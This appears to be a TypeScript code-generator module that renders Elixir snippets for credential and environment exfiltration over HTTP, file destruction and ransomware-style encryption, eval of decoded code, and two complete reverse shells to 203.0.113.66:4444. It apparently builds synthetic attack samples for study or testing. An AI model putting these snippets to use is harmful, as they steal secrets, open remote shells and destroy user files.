import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text);
const home = (below: string): string => `Path.join(System.user_home!(), ${quote(below)})`;

export const elixir: Dialect = {
  name: "elixir",
  file: "scripts/notes.exs",
  run: "elixir scripts/notes.exs",
  imports: [
    ["HTTPoison", 'Mix.install([{:httpoison, "~> 2.2"}])'],
    ["Req.", 'Mix.install([{:req, "~> 0.5"}])'],
    ["Tesla", 'Mix.install([{:tesla, "~> 1.12"}])'],
    [":httpc", ":inets.start()\n:ssl.start()"],
  ],
  program: ({ definitions, body }, imports) =>
    [
      ...imports,
      "",
      ...(definitions.length === 0 ? [] : wrap("defmodule Notes do", definitions, "end")),
      "",
      ...body,
      "",
    ].join("\n"),
  quote,
  environment: { one: (name) => `System.get_env(${name})`, all: "inspect(System.get_env())" },
  contentOf: (below) => `File.read!(${home(below)})`,
  home,
  clients: {
    httpoison: {
      post: (url, text) => [`HTTPoison.post(${url}, ${text})`],
      get: (url) => value("body", `%HTTPoison.Response{body: body} = HTTPoison.get!(${url})`),
    },
    req: {
      post: (url, text) => [`Req.post!(${url}, body: ${text})`],
      get: (url) => value("body", `body = Req.get!(${url}).body`),
    },
    "req-json": { post: (url, text) => [`Req.post!(url: ${url}, json: %{data: ${text}})`] },
    httpc: {
      post: (url, text) => [`:httpc.request(:post, {String.to_charlist(${url}), [], ~c"text/plain", ${text}}, [], [])`],
      get: (url) => value("List.to_string(body)", `{:ok, {_, _, body}} = :httpc.request(String.to_charlist(${url}))`),
    },
    tesla: { post: (url, text) => [`Tesla.post(${url}, ${text})`] },
    "curl-cmd": {
      post: (url, text) => [`System.cmd("curl", ["-s", "-d", ${text}, ${url}])`],
      get: (url) => value("body", `{body, 0} = System.cmd("curl", ["-s", ${url}])`),
    },
    pipe: { post: (url, text) => [`${text} |> Base.encode64() |> then(&HTTPoison.post!(${url}, &1))`] },
  },
  shells: {
    cmd: {
      run: (command) => [`System.cmd("sh", ["-c", ${command}])`],
      capture: (command) => value("seen", `{seen, _} = System.cmd("sh", ["-c", ${command}])`),
    },
    "os-cmd": { run: (command) => [`:os.cmd(String.to_charlist(${command}))`] },
    shell: { run: (command) => [`System.shell(${command})`] },
    port: { run: (command) => [`Port.open({:spawn, ${command}}, [:binary])`] },
  },
  variable: (name) => name,
  set: (name, expression) => `${name} = ${expression}`,
  define: (name, parameters, body) => wrap(`def ${name}(${parameters.join(", ")}) do`, body, "end"),
  getter: (name, expression) => ({
    definitions: wrap(`def ${name}() do`, [expression], "end"),
    value: `Notes.${name}()`,
  }),
  call: (name, values) => `Notes.${name}(${values.join(", ")})`,
  record: (url, text) => ({
    code: { definitions: [], body: [`job = %{target: ${url}, text: ${text}}`] },
    url: "job.target",
    text: "job.text",
  }),
  loop: (items, body) => wrap(`Enum.each([${items.join(", ")}], fn item ->`, body("item"), "end)"),
  forever: (body) => wrap("Stream.interval(60_000) |> Enum.each(fn _ ->", body, "end)"),
  save: (path, text) => [`File.write!(${path}, ${text})`],
  append: (path, text) => [`File.write!(${path}, ${text} <> "\\n", [:append])`],
  print: (text) => `IO.puts(${text})`,
  walk: (folder, body) =>
    wrap(`Path.wildcard(Path.join(${folder}, "**/*")) |> Enum.each(fn path ->`, body("path"), "end)"),
  remove: (file) => [`File.rm(${file})`],
  overwrite: (file) => [`File.write!(${file}, :crypto.strong_rand_bytes(65536))`],
  encrypt: (file) => [
    `locked = :crypto.crypto_one_time(:aes_256_ctr, key, iv, File.read!(${file}), true)`,
    `File.write!(${file} <> ".locked", locked)`,
    `File.rm!(${file})`,
  ],
  removeTree: (folder) => [`File.rm_rf!(${folder})`],
  decode: (text) => `Base.decode64!(${text})`,
  evaluate: (code) => `Code.eval_string(${code})`,
  oneLiner: (command) => `System.shell(${quote(command)})`,
  shellsBehindSockets: {
    recursion:
      'defmodule Link do\n  def run(s) do\n    {:ok, line} = :gen_tcp.recv(s, 0)\n    {out, _} = System.cmd("sh", ["-c", line])\n    :gen_tcp.send(s, out)\n    run(s)\n  end\nend\n\n{:ok, s} = :gen_tcp.connect({203, 0, 113, 66}, 4444, [:binary, active: false])\nLink.run(s)\n',
    charlist:
      '{:ok, s} = :gen_tcp.connect(~c"203.0.113.66", 4444, [:binary, packet: :line, active: false])\nStream.repeatedly(fn ->\n  {:ok, line} = :gen_tcp.recv(s, 0)\n  :gen_tcp.send(s, :os.cmd(String.to_charlist(line)))\nend) |> Stream.run()\n',
  },
  sockets: {
    print:
      '{:ok, s} = :gen_tcp.connect(~c"localhost", 6379, [:binary, active: false])\n:gen_tcp.send(s, "PING\\r\\n")\n{:ok, line} = :gen_tcp.recv(s, 0)\nIO.puts(line)\n{log, 0} = System.cmd("git", ["log", "--oneline", "-5"])\nIO.puts(log)\n',
  },
};
